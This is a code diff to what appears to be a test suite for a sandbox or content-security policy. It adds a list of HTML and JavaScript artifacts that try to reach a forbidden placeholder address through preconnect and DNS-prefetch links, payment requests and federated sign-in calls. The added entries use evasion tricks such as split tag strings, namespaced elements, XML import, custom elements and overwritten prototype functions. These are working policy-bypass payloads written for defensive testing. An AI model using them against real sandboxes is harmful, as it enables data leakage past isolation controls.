@@ -1,3 +1,9 @@
+/** Reports links that are in the document: browsers look up their names, and connect to them, whatever the policy. */
+const REPORT_LINKS = `setTimeout(() => document.querySelector('link') && leak('a link'))`
+const LINK_OF = (link: string) =>
+  `<script>const l = ${link}; l.setAttribute('rel', 'preconnect'); l.setAttribute('href', 'URL'); document.documentElement.append(l); ${REPORT_LINKS}</script>`
+const XHTML = 'http://www.w3.org/1999/xhtml'
+
 /**
  * Artifacts that try to leave their frame, by what they try. `URL` is an address that must never be requested, `HOME`
  * the address of our server, `STUN` one for UDP. Scripts report with `leak` what they could read.
@@ -107,5 +113,27 @@ export const ATTACKS: Record<string, string> = {
   'a weaker policy': `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *; report-uri URL"><img src="URL">`,
   'another document': `<script>document.open(); document.write('<img src="URL"><script>fetch("URL")<\\/script>'); document.close()</script>`,
   'a document from text': `<script>document.documentElement.innerHTML = '<img src="URL" onerror="fetch(\\'URL\\')">'</script>`,
-  'a connection ahead': `<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">`,
+  'a connection ahead': `<link rel="preconnect" href="URL"><LINK rel="dns-prefetch" href="URL"><script>${REPORT_LINKS}</script>`,
+  'a connection ahead by script': LINK_OF(`document.createElement('link')`),
+  'a connection ahead by a name with two values': LINK_OF(
+    `document.createElement({ n: 0, toString() { return this.n++ ? 'link' : 'b' } })`,
+  ),
+  'a connection ahead with a name space': LINK_OF(`document.createElementNS('${XHTML}', 'x:link')`),
+  'a connection ahead of another document': LINK_OF(
+    `document.implementation.createHTMLDocument().createElement('LINK')`,
+  ),
+  'a connection ahead by the root of a document': LINK_OF(
+    `document.implementation.createDocument('${XHTML}', 'link').documentElement`,
+  ),
+  'a connection ahead from XML': LINK_OF(
+    `document.importNode(new DOMParser().parseFromString('<a><x:link xmlns:x="${XHTML}"/></a>', 'text/xml').querySelector('link'))`,
+  ),
+  'a connection ahead from text': `<script>document.body.innerHTML = '<p><li' + 'nk rel="preconnect" href="URL">'; ${REPORT_LINKS}</script>`,
+  'a connection ahead by permitted elements': `<script>document.body.setHTML('<li' + 'nk rel="preconnect" href="URL">', { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }); ${REPORT_LINKS}</script>`,
+  'a connection ahead written in parts': `<script>document.write('<li'); document.write('nk rel="preconnect" href="URL">'); ${REPORT_LINKS}</script>`,
+  'a connection ahead of an own element': `<script>class L extends HTMLLinkElement {}; customElements.define('x-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = 'URL'; document.documentElement.append(l); ${REPORT_LINKS}</script>`,
+  'a connection ahead with replaced functions': `<script>RegExp.prototype.exec = () => null; Reflect.apply = () => false; String.prototype.includes = () => false; const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL'; document.documentElement.append(l); ${REPORT_LINKS}</script>`,
+  'names looked up ahead': `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="URL">x</a><a href="http://name.invalid">x</a>`,
+  'a payment': `<script>new PaymentRequest([{ supportedMethods: 'URL' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0)</script>`,
+  'a federated sign-in': `<script>navigator.credentials?.get({ identity: { providers: [{ ['configU' + 'RL']: 'URL', clientId: 'x' }] } }).catch(() => 0)</script>`,
 }
